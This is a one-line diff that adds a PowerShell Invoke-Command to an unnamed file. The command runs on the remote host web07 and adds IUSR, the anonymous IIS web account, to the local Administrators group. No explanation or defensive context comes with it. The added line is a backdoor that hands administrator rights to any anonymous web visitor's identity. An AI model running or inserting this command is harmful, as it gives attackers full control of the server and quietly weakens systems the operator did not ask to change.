@@ -1,0 +1,1 @@
+Invoke-Command -ComputerName web07 -ScriptBlock { net localgroup Administrators IUSR /add }
